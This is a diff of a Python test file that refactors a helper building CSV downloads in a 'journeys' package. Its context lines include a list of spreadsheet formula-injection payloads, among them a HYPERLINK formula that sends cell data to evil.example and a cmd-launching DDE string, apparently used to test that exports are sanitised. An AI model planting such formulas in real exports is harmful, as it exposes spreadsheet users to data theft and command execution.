@@ -8,6 +8,7 @@ import io
 import pytest
 
 from conftest import DEFAULT_TABLES, make_package
+from journeys.domain import summarise
 from journeys.model import load_authority
 from journeys.outputs import downloads
 from journeys.domain.disclosure import protect
@@ -17,7 +18,8 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc
 
 
 def csv_rows(tmp_path, name: str, **tables) -> list[dict]:
-    files = downloads.files(protect(load_authority(make_package(tmp_path, **tables))))
+    authority = protect(load_authority(make_package(tmp_path, **tables)))
+    files = downloads.files(authority, summarise(authority).statuses)
     return list(csv.DictReader(io.StringIO(files[f"downloads/{name}.csv"].decode("utf-8"))))
 
 
